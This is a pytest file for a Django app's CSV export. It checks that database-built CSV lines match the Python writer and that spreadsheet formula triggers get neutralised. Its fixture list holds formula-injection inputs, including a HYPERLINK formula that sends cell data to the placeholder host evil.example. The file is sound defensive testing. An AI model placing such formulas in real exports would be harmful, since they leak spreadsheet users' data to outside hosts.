"""CSV lines written by the database are the bytes the Python writer makes."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from django.contrib.contenttypes.models import ContentType
from django.db.models import IntegerField, TextField, Value

from core.exports import FORMULA_TRIGGERS, csv_lines_response, write_csv
from core.sql_csv import csv_field, csv_line

pytestmark = pytest.mark.django_db

TEXTS = [
    "Amara Okafor",
    "",
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "Claims, Operations",
    'She said "ready"',
    "two\nlines",
    "carriage\rreturn",
    "crlf\r\nend",
    " leading space",
    "trailing space ",
    "Zoë Ngũgĩ – São Paulo 東京",
    "'already quoted",
    "a=b",
    "100%",
    ",",
    '"',
    "'",
]


def _database_line(*values) -> str:
    return (
        ContentType.objects.order_by("pk")
        .annotate(line=csv_line(*values))
        .values_list("line", flat=True)[0]
    )


def _python_line(values: list) -> str:
    out = io.StringIO()
    write_csv(pd.DataFrame([values], columns=range(len(values))), out, bom=False)
    return out.getvalue().split("\r\n", 1)[1]  # without the header


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_a_text_field_is_what_the_python_writer_writes(text):
    # Beside a second field: a line of one empty field is '""' to Python's csv
    # module (so that it is not an empty line), and no download has one column.
    last = Value("end", output_field=TextField())
    assert _database_line(Value(text, output_field=TextField()), last) == (
        _python_line([text, "end"])
    )


def test_a_line_of_many_fields_with_nulls_and_counts():
    values = [*TEXTS, None, 0, 7, 20_000]
    expressions = [
        Value(v, output_field=IntegerField() if isinstance(v, int) else TextField())
        for v in values
    ]
    python = _python_line(["" if v is None else v for v in values])
    assert _database_line(*expressions) == python
    assert python.endswith(",,0,7,20000\r\n")


def test_every_formula_trigger_is_neutralised():
    for trigger in FORMULA_TRIGGERS:
        field = (
            ContentType.objects.order_by("pk")
            .annotate(field=csv_field(Value(f"{trigger}cmd", output_field=TextField())))
            .values_list("field", flat=True)[0]
        )
        assert field.strip('"').startswith(f"'{trigger}"), repr(trigger)


def test_lines_response_is_the_frame_download():
    from core.exports import download_response

    frame = pd.DataFrame(
        {"Name": ["Amara Okafor", "=HYPERLINK(1)", 'A "quote"'], "=Count": [3, 1, 0]}
    )
    lines = [
        _database_line(
            Value(name, output_field=TextField()),
            Value(count, output_field=IntegerField()),
        )
        for name, count in zip(frame["Name"], frame["=Count"], strict=True)
    ]
    fast = csv_lines_response(lines, columns=list(frame.columns), filename="my team")
    slow = download_response(frame, filename="my team", fmt="csv")
    assert fast.content == slow.content
    for header in ("Content-Type", "Content-Disposition", "Cache-Control"):
        assert fast[header] == slow[header]


def test_lines_response_of_no_lines_is_the_header():
    response = csv_lines_response([], columns=["Name", "Score"], filename="empty")
    assert response.content == "\ufeffName,Score\r\n".encode()
